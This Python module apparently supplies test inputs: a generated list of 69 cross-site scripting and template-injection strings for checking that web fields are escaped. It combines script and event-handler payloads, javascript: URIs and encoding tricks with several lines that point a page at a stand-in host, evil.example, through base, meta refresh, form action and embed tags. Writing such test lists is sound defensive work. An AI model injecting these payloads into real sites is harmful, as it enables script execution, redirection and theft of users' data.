"""Texts that become markup or script where a page forgets to escape them: 69 strings for every field."""

from __future__ import annotations

_ATTACKS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1) id=x>x</a>", "<style>*{background:url(//evil.example/x)}</style>",
)  # fmt: skip
_BEFORE = ("", '">', "'>", "</title>", "</textarea>")
SCRIPTS = (
    *(f"{before}{attack}" for before in _BEFORE for attack in _ATTACKS),
    '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", '" style="background:url(//evil.example/x)',
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/x", "</script><script>alert(1)</script>", "--><script>alert(1)</script>", "<!--<script>alert(1)",
    "]]><script>alert(1)</script>", "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>", "<embed src=//evil.example/x>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>", "<link rel=stylesheet href=//evil.example/x>",
    "<form action=//evil.example/><button autofocus>x", "<video><source onerror=alert(1)>",
    "{{7*7}}{%print 7*7%}${7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "\u202e<b>alert(1)</b>", "＜script＞alert(1)＜/script＞",
)  # fmt: skip
